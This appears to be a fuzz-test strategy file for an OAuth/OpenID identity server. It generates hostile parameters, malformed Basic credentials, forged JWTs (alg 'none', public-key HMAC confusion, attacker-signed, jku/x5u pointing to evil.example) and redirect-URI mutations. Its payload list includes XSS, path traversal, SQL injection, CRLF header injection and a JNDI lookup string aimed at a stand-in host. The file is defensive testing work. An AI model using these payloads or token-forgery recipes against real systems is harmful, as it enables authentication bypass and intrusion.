"""Hypothesis strategies for the fuzz suite: hostile parameters, encodings, credentials and JWTs.

Everything generated here is something a client can put on the wire through the documented
server (gunicorn): header values are limited to what RFC 9110 §5.5 allows (gunicorn refuses
control characters in them), while query strings and bodies may carry any byte, since
percent-encoding reaches every value.

Token-shaped values are drawn as *specs* (a recipe for a JWT, a literal, a mutation of a genuine
token) and built at run time against the server's published keys, so that a failing example
shrinks to a readable recipe and so that each spec can say why the server must refuse it.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import re
import secrets
import tempfile
import time
from collections.abc import Sequence
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

from tests.helpers.basic_auth import basic

# --- settings ---------------------------------------------------------------------------------

# No example database, and no .hypothesis directory in the checkout either: hypothesis still
# caches Unicode tables and literal constants in its home, which goes to the temp directory.
if not os.environ.get("HYPOTHESIS_STORAGE_DIRECTORY"):
    set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "identity-fuzz-hypothesis")

# FUZZ_EXAMPLES multiplies every test's number of examples (FUZZ_EXAMPLES=10: ten times as many).
SCALE = float(os.environ.get("FUZZ_EXAMPLES") or 1)

settings.register_profile(
    "identity-fuzz",
    max_examples=100,
    deadline=None,  # the 2 s per-request bound is checked by the harness, per request
    database=None,  # no .hypothesis directory in the checkout
    suppress_health_check=(HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                           HealthCheck.data_too_large),
    print_blob=True,
    # The test command tries the same inputs every run, so that main never fails by chance;
    # FUZZ_RANDOM=1 explores new ones (and prints how to reproduce what it finds).
    derandomize=not os.environ.get("FUZZ_RANDOM"),
)


def fuzz_settings(examples: int) -> settings:
    """The fuzz profile with `examples` examples, scaled by FUZZ_EXAMPLES."""
    return settings(settings.get_profile("identity-fuzz"),
                    max_examples=max(1, round(examples * SCALE)))


# --- plain values -------------------------------------------------------------------------------

NASTY_STRINGS = (
    "", " ", "\x00", "a\x00b", "\r\n", "\n", "\t", "\u2028", "\ufeff", "\u202e", "\u200b",
    "é", "😀", "\uffff", "null", "undefined", "[]", "{}", "0", "-1", "1e309", "NaN", "true",
    "../../etc/passwd", "..\\..\\windows", "<script>alert(1)</script>",
    "\"'><svg onload=alert(1)>", "javascript:alert(1)", "${jndi:ldap://evil.example/a}",
    "{{7*7}}", "%s%s%n", "' OR '1'='1", "\\", "%", "%00", "+", "=", "&", "#", "?", ";",
    "openid", "api1", "client_credentials", "code", "S256", "plain", "interactive",
)
# Sizes at and around every configured limit (INPUT_LENGTHS, MAX_REQUEST_BODY, Django's 2.5 MB).
BOUNDARY_SIZES = (0, 1, 42, 43, 44, 99, 100, 101, 127, 128, 129, 299, 300, 301, 399, 400, 401,
                  1999, 2000, 2001, 3999, 4000, 4001, 8192, 16383, 16384, 16385, 65536,
                  1 << 20, 1_500_000)
FILLERS = ("a", "A", "%", "é", "\x00", ".", "[", "%41", "a=b&", "+", " ", "😀", "\\")


# Bytes of one value once percent-encoded: megabytes, past every limit of the app (16 KiB bodies)
# and of Django (2.5 MB), while a linear parse of the largest request stays well inside the 2 s
# hang bound on a busy machine (Django decodes 2.5 MB of %00 in ~0.7 s on an idle one).
WIRE_LIMIT = 1_500_000


def _repeat(filler: str, size: int) -> str:
    size = min(size, WIRE_LIMIT // len(quote_plus(filler.encode("utf-8"))))
    return (filler * (size // max(1, len(filler)) + 1))[:size]


# Built by repetition: drawing megabytes character by character would take hypothesis minutes.
oversized = st.builds(_repeat, st.sampled_from(FILLERS),
                      st.one_of(st.sampled_from(BOUNDARY_SIZES), st.integers(0, WIRE_LIMIT)))

values = st.one_of(
    st.sampled_from(NASTY_STRINGS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x7f), max_size=40),
    st.binary(max_size=30).map(lambda b: b.decode("latin-1")),
    oversized,
)

# Percent-escapes that are not valid UTF-8: truncated, non-hex, overlong forms of '/', '.' and NUL,
# an encoded surrogate, code points past U+10FFFF, lone continuation bytes.
BAD_ESCAPES = ("%", "%%", "%G0", "%0", "%ZZ", "%ff", "%FE", "%c0%af", "%C0%AE", "%e0%80%af",
               "%c0%80", "%ed%a0%80", "%f8%88%80%80%80", "%f4%90%80%80", "%80", "%bf", "%u0041",
               "%e2%80", "%f0%9f%98")
ODD_ESCAPES = ("%00", "%25", "%2525", "%0d%0a", "%e2%80%ae", "%2e%2e%2f", "%2F", "%5c", "%20",
               "%09", "%7f", "%c2%a0")


@dataclass(frozen=True)
class Param:
    """One name=value pair and how it is put into a query string or form body."""

    name: str
    value: str
    encoding: str = "plus"  # plus | quote | raw | latin1 | double | bad | odd | bare
    junk: str = ""  # escape inserted for the "bad" and "odd" encodings

    def encode(self) -> bytes:
        name = quote_plus(self.name.encode("utf-8"))
        value = self.value.encode("utf-8")
        if self.encoding == "bare":
            return name.encode("ascii")
        if self.encoding == "raw":
            return self.name.encode("utf-8") + b"=" + value
        if self.encoding == "quote":
            encoded = quote(value, safe="")
        elif self.encoding == "latin1":
            encoded = quote_plus(self.value.encode("latin-1", "replace"))
        elif self.encoding == "double":
            encoded = quote(quote(value, safe=""), safe="")
        else:
            encoded = quote_plus(value)
        if self.encoding in ("bad", "odd"):
            middle = len(encoded) // 2
            encoded = encoded[:middle] + self.junk + encoded[middle:]
        return name.encode("ascii") + b"=" + encoded.encode("ascii")


ENCODINGS = ("plus",) * 6 + ("quote", "raw", "latin1", "double", "bad", "odd", "bare")


def params_for(names: Sequence[str], value_for: dict[str, st.SearchStrategy[str]] | None = None,
               encodings: Sequence[str] = ENCODINGS,
               max_size: int = 8) -> st.SearchStrategy[list[Param]]:
    """Lists of parameters: mostly the endpoint's own names (with values that matter for them,
    from `value_for`), some random names, sometimes one name twice."""
    value_for = value_for or {}
    junk = st.one_of(st.sampled_from(BAD_ESCAPES), st.sampled_from(ODD_ESCAPES))

    @st.composite
    def param(draw: st.DrawFn) -> Param:
        name = draw(st.one_of(st.sampled_from(tuple(names)), st.sampled_from(tuple(names)),
                              st.text(min_size=1, max_size=12)))
        special = value_for.get(name)
        value = draw(st.one_of(special, special, values) if special is not None else values)
        return Param(name, value, draw(st.sampled_from(tuple(encodings))), draw(junk))

    return st.lists(param(), max_size=max_size)


SEPARATORS = (b"&", b"&", b"&", b";", b"&&", b"&amp;")


@st.composite
def bodies(draw: st.DrawFn, names: Sequence[str],
           value_for: dict[str, st.SearchStrategy[str]] | None = None,
           max_size: int = 8) -> tuple[list[Param], bytes]:
    """A form body or query string from parameters, sometimes with odd separators, or raw bytes."""
    params, total = [], 0
    for param in draw(params_for(names, value_for, max_size=max_size)):
        total += len(param.encode())
        if total <= 2 * WIRE_LIMIT:  # a few megabytes per request, not tens
            params.append(param)
    if draw(st.integers(0, 9)) == 0:
        return params, draw(raw_bodies)
    separator = draw(st.sampled_from(SEPARATORS))
    prefix = draw(st.sampled_from((b"", b"", b"", b"&", b"?", b"=")))
    return params, prefix + separator.join(p.encode() for p in params)


def form(pairs: dict[str, str]) -> bytes:
    """Encode a well-formed form body (or query string)."""
    return b"&".join(Param(k, v).encode() for k, v in pairs.items())


raw_bodies = st.one_of(
    st.binary(max_size=200),
    st.sampled_from((b"\xff\xfe\xfd", b"grant_type=%ff%fe", b"a=1&" * 60, b"%", b"=",
                     b"\x00" * 10, b"{\"grant_type\": \"client_credentials\"}",
                     b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n")),
    oversized.map(lambda text: text.encode("utf-8")),
)

CONTENT_TYPES = (
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-8", "APPLICATION/X-WWW-FORM-URLENCODED",
    "application/x-www-form-urlencoded; charset=iso-8859-1", "application/x-www-form-urlencodedx",
    "application/json", "text/plain", "multipart/form-data; boundary=x", "multipart/form-data",
    "application/xml", "", ";", "application/x-www-form-urlencoded;;;", "*/*",
)
content_types = st.one_of(
    st.sampled_from(CONTENT_TYPES),
    st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0xff), max_size=60),
)

# RFC 9110 §5.5 field values as gunicorn lets them through: VCHAR, obs-text, SP and HTAB.
header_text = st.text(alphabet=st.one_of(st.characters(min_codepoint=0x20, max_codepoint=0x7e),
                                         st.characters(min_codepoint=0x80, max_codepoint=0xff),
                                         st.just("\t")), max_size=60)


def header_safe(text: str) -> str:
    """Drop what gunicorn refuses in a header value, and trim what it trims."""
    kept = "".join(c for c in text if c == "\t" or 0x20 <= ord(c) <= 0xff and ord(c) != 0x7f)
    return kept.strip(" \t")


ORIGINS = ("https://app.example.com", "http://localhost:21402", "null", "https://evil.example",
           "http://app.example.com", "https://app.example.com:443", "https://APP.example.com",
           "file://", "chrome-extension://abc", "https://app.example.com/")

HEADER_VALUES = ("sessionid=" + "a" * 32, "csrftoken=x; sessionid=../../",
                 "sessionid=" + "x" * 5000, "GET", "POST", "0", "-1", "abc", "127.0.0.1",
                 "evil.example", "localhost:8000", "testserver", "*", "bytes=0-0,-1")
# Host is included: an allowed one changes the issuer (no ISSUER is configured in tests), another
# one is Django's 400.
extra_headers = st.dictionaries(
    st.sampled_from(("Origin", "Accept", "Accept-Language", "Accept-Encoding", "Cookie", "Referer",
                     "User-Agent", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host",
                     "Access-Control-Request-Method", "Access-Control-Request-Headers",
                     "If-None-Match", "Range", "Host")),
    st.one_of(st.sampled_from(ORIGINS), header_text, st.sampled_from(HEADER_VALUES)),
    max_size=3).map(lambda headers: {k: header_safe(v) for k, v in headers.items()})

HTTP_METHODS = ("GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT",
                "PROPFIND", "get", "FOO")


# --- client authentication headers --------------------------------------------------------------


def _b64_raw(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


KNOWN_IDS = ("service.client", "interactive", "api1", "web", "native", "unknown.client", "")
GENUINE_CREDENTIALS = (("service.client", "secret"), ("interactive", "secret"),
                       ("api1", "api-secret"))

authorization_headers = st.one_of(
    # well-formed Basic: genuine, wrong secret, odd ids
    st.builds(basic, st.sampled_from(KNOWN_IDS), st.sampled_from(("secret", "wrong", "api-secret",
                                                                  "", "secret ", "SECRET"))),
    st.builds(basic, st.text(max_size=30), st.text(max_size=30)),
    st.sampled_from(GENUINE_CREDENTIALS).map(lambda c: basic(*c)),
    # percent-escaping errors and decoded control characters inside the credentials
    st.builds(lambda i, j, s: basic(i[:len(i) // 2] + j + i[len(i) // 2:], s, form_encode=False),
              st.sampled_from(KNOWN_IDS), st.sampled_from(BAD_ESCAPES + ODD_ESCAPES),
              st.sampled_from(("secret", "wrong"))),
    # no colon, empty parts, several colons
    st.sampled_from(("interactive", ":", "interactive:", ":secret", "a:b:c", "")).map(
        lambda s: "Basic " + _b64_raw(s.encode())),
    # not base64, bad padding, not UTF-8 inside, whitespace inside
    st.sampled_from(("Basic", "Basic ", "Basic !!!!", "Basic aW50ZXJhY3RpdmU6c2VjcmV0",
                     "Basic aW50ZXJhY3RpdmU6c2VjcmV0==", "Basic aW50ZXJh Y3RpdmU6c2VjcmV0",
                     "Basic " + _b64_raw(b"\xff\xfe:\xfd"), "Basic =", "Basic ====",
                     "Basic\taW50ZXJhY3RpdmU6c2VjcmV0", "BASIC " + _b64_raw(b"interactive:secret"),
                     "basic  " + _b64_raw(b"interactive:secret"), "Basic Og==",
                     "Digest username=\"interactive\"", "Negotiate YII=", "Bearer abc", "Bearer",
                     "Basic " + _b64_raw(b"interactive:secret") + " trailing")),
    st.builds(lambda scheme, text: f"{scheme} {text}",
              st.sampled_from(("Basic", "basic", "Bearer", "X")), header_text),
    # huge: a megabyte of credentials
    st.builds(lambda n: "Basic " + _b64_raw(b"i" * n + b":" + b"s" * n),
              st.sampled_from((100, 101, 4096, 100_000, 400_000))),
)


# --- JWTs ---------------------------------------------------------------------------------------


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_json(value: Any) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode("utf-8"))


@cache
def attacker_key() -> Any:
    """An RSA key that is not the server's (generated once per process: it takes a while)."""
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def public_jwk_of(private: Any) -> dict[str, str]:
    numbers = private.public_key().public_numbers()

    def member(value: int) -> str:
        return b64url(value.to_bytes((value.bit_length() + 7) // 8, "big"))

    return {"kty": "RSA", "e": member(numbers.e), "n": member(numbers.n), "kid": "attacker"}


def sign_with(private: Any, algorithm: str, signing_input: bytes) -> bytes:
    """Sign like a JWS library would (RS*, PS*, ES*), with any private key."""
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec, padding
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

    digest = {"256": hashes.SHA256, "384": hashes.SHA384, "512": hashes.SHA512}[algorithm[-3:]]()
    if algorithm.startswith("ES"):
        r, s = decode_dss_signature(private.sign(signing_input, ec.ECDSA(digest)))
        size = (private.curve.key_size + 7) // 8
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")
    if algorithm.startswith("PS"):
        return private.sign(signing_input, padding.PSS(padding.MGF1(digest), digest.digest_size),
                            digest)
    return private.sign(signing_input, padding.PKCS1v15(), digest)


@dataclass(frozen=True)
class JwtContext:
    """What building a token needs from the running server."""

    issuer: str
    jwks: tuple[dict[str, Any], ...]  # as published
    ours: dict[str, tuple[str, Any]]  # kid -> (alg, private key) of the server's signing keys
    subject: str  # alice's subject
    genuine: dict[str, str] = field(default_factory=dict)  # kind -> token issued by the flow

    @property
    def kid(self) -> str:
        return next(iter(self.ours))

    def rsa_public(self) -> Any:
        import jwt

        jwk = next(k for k in self.jwks if k["kty"] == "RSA")
        return jwt.PyJWK(jwk).key

    def hmac_key(self, kind: str) -> bytes:
        """Public key material an attacker would try as an HMAC secret (algorithm confusion)."""
        from cryptography.hazmat.primitives import serialization

        public = self.rsa_public()
        jwk = next(k for k in self.jwks if k["kty"] == "RSA")
        if kind == "pem-pkcs1":
            return public.public_bytes(serialization.Encoding.PEM,
                                       serialization.PublicFormat.PKCS1)
        if kind == "jwk-json":
            return json.dumps(jwk).encode()
        if kind == "jwk-compact":
            return json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()
        if kind == "jwks-json":
            return json.dumps({"keys": list(self.jwks)}).encode()
        if kind == "modulus":
            return jwk["n"].encode()
        return public.public_bytes(serialization.Encoding.PEM,
                                   serialization.PublicFormat.SubjectPublicKeyInfo)


class Drop:
    """Marks a claim or header member to remove."""

    def __repr__(self) -> str:
        return "DROP"


DROP = Drop()


@dataclass(frozen=True)
class Rel:
    """A time claim relative to now, in seconds."""

    offset: int


SIGNERS = ("none", "none-with-signature", "hs256-public-key", "attacker-rsa", "embedded-jwk",
           "jku", "x5u", "ours", "ours", "ours", "garbage")
HMAC_KEYS = ("pem-spki", "pem-pkcs1", "jwk-json", "jwk-compact", "jwks-json", "modulus")
TAMPERS = ("none", "none", "none", "none", "truncate-signature", "drop-signature",
           "flip-signature", "flip-header", "flip-payload", "non-ascii-payload",
           "garbage-payload", "pad", "whitespace-inside", "extra-segment", "two-segments",
           "nested-header", "nested-object-header", "non-object-header", "non-utf8-header",
           "huge-number-header", "empty", "insert", "insert", "insert")
ISSUERS = ("http://testserver/", "https://testserver", "http://evil.example", "", None,
           "http://TESTSERVER", "http://testserver:80", ["http://testserver"])


def _claim_changes() -> st.SearchStrategy[tuple[str, Any]]:
    return st.one_of(
        st.tuples(st.just("iss"), st.one_of(st.sampled_from(ISSUERS), st.just(DROP))),
        st.tuples(st.just("exp"), st.one_of(st.builds(Rel, st.integers(-10**6, -1)),
                                            st.just(DROP), st.sampled_from(("1", "never")))),
        st.tuples(st.just("nbf"), st.builds(Rel, st.integers(60, 10**6))),
        st.tuples(st.just("iat"), st.just(DROP)),
        st.tuples(st.just("aud"), st.sampled_from(("evil", ["evil"], [], "api1", "interactive",
                                                   ["api1", "api2"]))),
        st.tuples(st.just("scope"), st.sampled_from(("api1", "", "openid", "openid profile"))),
        st.tuples(st.just("client_id"), st.sampled_from(("service.client", "unknown", ""))),
        st.tuples(st.just("sub"), st.sampled_from(("0", "999999", "", "service.client"))),
        st.tuples(st.just("auth_time"), st.just(DROP)),
    )


def _header_extras() -> st.SearchStrategy[tuple[str, Any]]:
    return st.one_of(
        st.tuples(st.just("crit"), st.sampled_from((["exp"], [], "b64", ["x-unknown"]))),
        st.tuples(st.just("jku"), st.just("https://evil.example/jwks.json")),
        st.tuples(st.just("x5u"), st.just("https://evil.example/cert.pem")),
        st.tuples(st.just("x5c"), st.just(["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"])),
        st.tuples(st.just("jwk"), st.just("attacker")),
        st.tuples(st.just("b64"), st.just(False)),
        st.tuples(st.just("zip"), st.just("DEF")),
        st.tuples(st.just("cty"), st.just("JWT")),
        st.tuples(st.just("x-pad"), st.sampled_from((100, 2000, 5000, 100_000)).map(
            lambda n: "A" * n)),
    )


def _depth(at: int) -> int:
    # Below and above Python's recursion limit (1000), and within the 4000-character limit of a
    # form's token once base64url-encoded, or beyond it.
    return (1200, 2900, 800, 2000, 6000, 200)[at % 6]


# Header segments that are not a usable JOSE header: deep nesting (the JSON parser's recursion
# limit), not an object, not UTF-8, a number past Python's int-from-string limit.
SWAPPED_HEADERS = {
    "nested-header": lambda at: b"[" * _depth(at) + b"]" * _depth(at),
    "nested-object-header": lambda at: b'{"a":' * _depth(at) + b"1" + b"}" * _depth(at),
    "non-object-header": lambda at: b'["RS256"]',
    "non-utf8-header": lambda at: b'{"alg":"\xff"}',
    "huge-number-header": lambda at: b'{"alg":' + b"9" * 5000 + b"}",
}


@dataclass(frozen=True)
class JwtSpec:
    """A recipe for a JWT: who signs it, which header and claims, and how it is damaged."""

    signer: str = "ours"
    alg: Any = None  # None: the signer's natural algorithm
    kid: str = "ours"  # ours | other-key | unknown | missing | list | huge
    typ: Any = "at+jwt"
    header_extras: tuple[tuple[str, Any], ...] = ()
    claim_changes: tuple[tuple[str, Any], ...] = ()
    tamper: str = "none"
    position: int = 0
    hmac_key: str = "pem-spki"
    junk: str = "é"  # what the "insert" tamper puts into a segment

    def build(self, ctx: JwtContext) -> str:
        now = int(time.time())
        claims: dict[str, Any] = {
            "iss": ctx.issuer, "sub": ctx.subject, "aud": ["api1"], "client_id": "interactive",
            "scope": "openid profile email api1", "auth_time": now - 10, "sid": "fuzz-session",
            "amr": ["pwd"], "iat": now, "nbf": now, "exp": now + 600,
            "jti": secrets.token_hex(8)}
        for name, value in self.claim_changes:
            if value is DROP:
                claims.pop(name, None)
            else:
                claims[name] = now + value.offset if isinstance(value, Rel) else value
        kid, alg, signing_alg, key = self._key(ctx)
        header: dict[str, Any] = {"alg": alg}
        if self.typ is not DROP:
            header["typ"] = self.typ
        if kid is not DROP:
            header["kid"] = kid
        for name, value in self.header_extras:
            header[name] = public_jwk_of(attacker_key()) if value == "attacker" else value
        if self.signer == "embedded-jwk":
            header["jwk"] = public_jwk_of(attacker_key())
        if self.signer in ("jku", "x5u"):
            header[self.signer] = f"https://evil.example/{self.signer}"
        head, body = b64url_json(header), b64url_json(claims)
        signature = self._sign(signing_alg, key, f"{head}.{body}".encode("ascii"))
        return self._damage(head, body, b64url(signature))

    def _key(self, ctx: JwtContext) -> tuple[Any, Any, str | None, Any]:
        """Return (kid, header alg, signing alg, key)."""
        our_kid = ctx.kid
        kid: Any = {
            "ours": our_kid, "missing": DROP, "list": [our_kid], "huge": our_kid * 500,
            "unknown": "unknown-kid",
            "other-key": next((k for k in ctx.ours if k != our_kid), "no-other-key"),
        }[self.kid]
        if self.signer == "ours":
            # The key the kid names (our other series for other-key), else the first one.
            signing_alg, key = ctx.ours.get(kid if isinstance(kid, str) else "",
                                            ctx.ours[our_kid])
        elif self.signer.startswith("none"):
            signing_alg, key = None, None
        elif self.signer == "hs256-public-key":
            signing_alg, key = "HS256", ctx.hmac_key(self.hmac_key)
        else:
            signing_alg, key = "RS256", attacker_key()
        header_alg = (signing_alg or "none") if self.alg is None else self.alg
        return kid, header_alg, signing_alg, key

    def _sign(self, signing_alg: str | None, key: Any, signing_input: bytes) -> bytes:
        if signing_alg is None:
            return b"" if self.signer == "none" else hashlib.sha256(signing_input).digest()
        if self.signer == "garbage":
            return hashlib.sha256(signing_input).digest() * 8
        if signing_alg == "HS256":
            return hmac.new(key, signing_input, hashlib.sha256).digest()
        return sign_with(key, signing_alg, signing_input)

    def _damage(self, head: str, body: str, sig: str) -> str:
        tamper, at = self.tamper, self.position

        def flip(segment: str, last_ok: bool) -> str:
            # The last character of a segment may carry unused bits: leave it alone unless the
            # segment's text itself is signed (header and payload are signed as text).
            span = len(segment) if last_ok else len(segment) - 1
            if span <= 0:
                return segment + "A"
            i = at % span
            replacement = "B" if segment[i] != "B" else "C"
            return segment[:i] + replacement + segment[i + 1:]

        if tamper == "truncate-signature":
            return f"{head}.{body}.{sig[:at % max(1, len(sig))]}"
        if tamper == "drop-signature":
            return f"{head}.{body}."
        if tamper == "flip-signature":
            return f"{head}.{body}.{flip(sig, last_ok=False)}"
        if tamper == "flip-header":
            return f"{flip(head, last_ok=True)}.{body}.{sig}"
        if tamper == "flip-payload":
            return f"{head}.{flip(body, last_ok=True)}.{sig}"
        if tamper == "non-ascii-payload":
            return f"{head}.{body[:at % max(1, len(body))]}é{body[at % max(1, len(body)):]}.{sig}"
        if tamper == "garbage-payload":
            return f"{head}.+/=={body}.{sig}"
        if tamper == "pad":
            return f"{head}.{body}.{sig}=="
        if tamper == "whitespace-inside":
            return f"{head}.{body[:5]} {body[5:]}.{sig}"
        if tamper == "extra-segment":
            return f"{head}.{body}.{sig}.{sig}"
        if tamper == "two-segments":
            return f"{head}.{body}"
        if tamper in SWAPPED_HEADERS:
            return f"{b64url(SWAPPED_HEADERS[tamper](at))}.{body}.{sig}"
        if tamper == "insert":
            segments = [head, body, sig]
            which = at % 3
            segment = segments[which]
            # Inside the token, never at its ends, where whitespace would be trimmed away.
            i = 1 + (at // 3) % max(1, len(segment) - 1) if which != 1 else (at // 3) % (
                len(segment) + 1)
            segments[which] = segment[:i] + self.junk + segment[i:]
            return ".".join(segments)
        if tamper == "empty":
            return ".."
        return f"{head}.{body}.{sig}"

    def refusal_reasons(self, ctx: JwtContext, purpose: str = "access_token") -> list[str]:
        """Why the server must not accept this token as `purpose` (empty: it may).

        `purpose` is access_token (userinfo, introspection, revocation: typ at+jwt, not expired)
        or id_token_hint (end session: any typ, expired accepted, as RP-Initiated Logout allows).
        """
        reasons = []
        if self.signer != "ours":
            reasons.append(f"not signed by the server ({self.signer})")
        if self.kid not in ("ours", "other-key") or (self.kid == "other-key" and len(ctx.ours) < 2):
            reasons.append(f"kid {self.kid}")
        if self.alg is not None and self.alg != self._key(ctx)[2]:
            reasons.append(f"alg {self.alg!r} is not the signing key's")
        if self.tamper != "none":
            reasons.append(f"tampered ({self.tamper})")
        if any(name == "crit" for name, _ in self.header_extras):
            reasons.append("crit header")
        typ = str(self.typ if self.typ is not DROP else "").lower()
        if purpose == "refresh_token":
            reasons.append("a JWT is never a refresh token here")
        access = purpose != "id_token_hint"
        if access and typ not in ("at+jwt", "application/at+jwt"):
            reasons.append(f"typ {self.typ!r}")
        changes = dict(self.claim_changes)
        if "iss" in changes:
            reasons.append("wrong issuer")
        if changes.get("iat") is DROP:
            reasons.append("no iat")
        if "exp" in changes and access:
            reasons.append("expired or without a usable exp")
        if "nbf" in changes:
            reasons.append("not valid yet")
        return reasons


jwt_specs = st.builds(
    JwtSpec,
    signer=st.sampled_from(SIGNERS),
    alg=st.one_of(st.none(), st.none(), st.sampled_from(
        ("none", "None", "NONE", "HS256", "HS512", "RS256", "PS256", "ES256", "RS384", "EdDSA", "",
         "rs256", 5, ["RS256"]))),
    kid=st.sampled_from(("ours",) * 5 + ("other-key", "unknown", "missing", "list", "huge")),
    typ=st.sampled_from(("at+jwt", "at+jwt", "application/at+jwt", "AT+JWT", "JWT", "jwt", "",
                         DROP, 7)),
    header_extras=st.lists(_header_extras(), max_size=2).map(tuple),
    claim_changes=st.lists(_claim_changes(), max_size=2).map(tuple),
    tamper=st.sampled_from(TAMPERS),
    position=st.integers(0, 10**6),
    hmac_key=st.sampled_from(HMAC_KEYS),
    junk=st.one_of(st.sampled_from(("é", "\x00", " ", "=", "+", "/", ".", "\\", "\n", "%", "€",
                                    "\ud7ff", "\x7f")), st.text(min_size=1, max_size=4)),
)


@dataclass(frozen=True)
class Literal:
    """A token-shaped value that no server issued: random text, JSON, base64 of JSON..."""

    text: str

    def build(self, ctx: JwtContext) -> str:
        return self.text

    def refusal_reasons(self, ctx: JwtContext, purpose: str = "access_token") -> list[str]:
        return ["not issued by the server"]


@dataclass(frozen=True)
class Genuine:
    """A token the server issued in the fixture's sign-in, possibly damaged."""

    kind: str  # access_token | refresh_token | id_token
    damage: str = "none"  # none | truncate | append | case | flip
    position: int = 0

    def build(self, ctx: JwtContext) -> str:
        token = ctx.genuine[self.kind]
        at = self.position % max(1, len(token) - 1)
        if self.damage == "truncate":
            return token[:at]
        if self.damage == "append":
            return token + "A"
        if self.damage == "case":
            return token.swapcase()
        if self.damage == "flip":
            return token[:at] + ("B" if token[at] != "B" else "C") + token[at + 1:]
        return token

    def refusal_reasons(self, ctx: JwtContext, purpose: str = "access_token") -> list[str]:
        reasons = [] if self.damage == "none" else [f"damaged ({self.damage})"]
        wanted = {"access_token": "access_token", "id_token_hint": "id_token",
                  "refresh_token": "refresh_token"}.get(purpose)
        if wanted is not None and self.kind != wanted:
            reasons.append(f"a {self.kind} used as {purpose}")
        return reasons


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=10),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=6),
                                                                      children, max_size=4),
    max_leaves=12)

literal_tokens = st.one_of(
    values,
    json_values.map(json.dumps),
    json_values.map(lambda v: b64url(json.dumps(v).encode())),
    st.tuples(json_values, json_values, st.binary(max_size=64)).map(
        lambda t: f"{b64url_json(t[0])}.{b64url_json(t[1])}.{b64url(t[2])}"),
    st.sampled_from(("a.b.c", "..", ".", "...", "eyJ.eyJ.", "eyJhbGciOiJub25lIn0.e30.",
                     "eyJhbGciOiJub25lIn0.e30", "Bearer", "null")),
    st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/",
            max_size=80),
).map(Literal)

genuine_tokens = st.builds(Genuine, st.sampled_from(("access_token", "refresh_token", "id_token")),
                           st.sampled_from(("none", "none", "truncate", "append", "case", "flip")),
                           st.integers(0, 10**4))

token_specs = st.one_of(jwt_specs, jwt_specs, literal_tokens, genuine_tokens)


# --- redirect URIs ------------------------------------------------------------------------------

LOOKALIKES = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441",
              "l": "\u217c", "i": "\u0456", ".": "\u3002", "1": "\uff11", "h": "\uff48",
              "x": "\u0445", "s": "\u0455", "t": "\uff54", "m": "\uff4d"}
PORTS = ("", "0", "80", "443", "8080", "21403", "65535", "65536", "99999", "+80", " 80", "080",
         "1e3", "-1", "80:80", "8080\n", "80\t")
TRAVERSALS = ("/../", "/./", "/x/../", "//", "/.", "/..", "/%2e%2e/", "/%2e/", "/%252e%252e/",
              "/.%2e/", "%2f..%2f", "\\..\\")
WHITESPACE = (" ", "\t", "\n", "\r\n", "\r", "\x00", "\u00a0", "\u200b", "\u3000", "\ufeff",
              "%20", "%09", "%0a", "%0d%0a", "%00")
TRAILERS = ("/", ".", "?", "#", "#x", "#@evil.example", "?x=1", "&x=1", "?redirect_uri=https://"
            "evil.example", ";", "..", "\\", "%2f", "%2F", "%252f", "%23", "%3f", "/%2e%2e",
            "\r\nLocation: https://evil.example", "%0d%0aLocation:%20https://evil.example")
EVIL = "evil.example"
DANGEROUS = ("javascript:alert(document.domain)//", "JaVaScRiPt:alert(1)//", "javascript://%0a",
             "data:text/html,<script>alert(1)</script>#", "data:text/html;base64,PHNjcmlwdD4=#",
             "vbscript:msgbox(1)//", " javascript:alert(1)//", "java\tscript:alert(1)//",
             "file://", "ftp://")
_URI = re.compile(r"(?P<scheme>[^:/?#]*):(?P<authority>//[^/?#]*)?(?P<rest>.*)", re.S)


def _parts(uri: str) -> tuple[str, str, str]:
    match = _URI.fullmatch(uri)
    if match is None:
        return "", "", uri
    return match["scheme"], (match["authority"] or "")[2:], match["rest"]


def _join(scheme: str, authority: str, rest: str, *, slashes: bool = True) -> str:
    return f"{scheme}:{'//' if slashes else ''}{authority}{rest}"


def mutate(uri: str, op: str, choice: int, position: int) -> str:
    """Apply one attack to a URI; `choice` and `position` pick the variant and the place."""
    scheme, authority, rest = _parts(uri)
    slashes = "//" in uri[: len(scheme) + 3]
    if authority.startswith("[") and "]" in authority:  # an IPv6 literal has colons inside
        host, _, port = authority.partition("]")
        host, port = host + "]", port.lstrip(":")
    else:
        host, _, port = authority.partition(":")

    def pick(options: Sequence[str]) -> str:
        return options[choice % len(options)]

    def at(text: str) -> int:
        return position % (len(text) + 1)

    if op == "case-scheme":
        return _join(scheme.upper() if scheme != scheme.upper() else scheme.lower(), authority,
                     rest, slashes=slashes)
    if op == "case-host":
        return _join(scheme, authority.upper(), rest, slashes=slashes)
    if op == "case-path":
        i = at(rest) - 1
        if i < 0 or not rest:
            return uri.upper()
